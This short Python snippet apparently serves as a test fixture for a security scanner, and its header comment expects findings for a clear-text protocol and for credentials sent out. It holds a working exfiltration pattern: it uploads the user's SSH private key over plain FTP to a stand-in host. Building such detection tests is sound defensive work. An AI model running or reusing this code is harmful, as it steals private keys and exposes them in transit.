# expect: 3 clear-text-protocol, 4 credentials-sent-out
import ftplib, os
f = ftplib.FTP('h.invalid', 'u', 'p')
f.storbinary('STOR k', open(os.path.expanduser('~/.ssh/id_ed25519'), 'rb'))
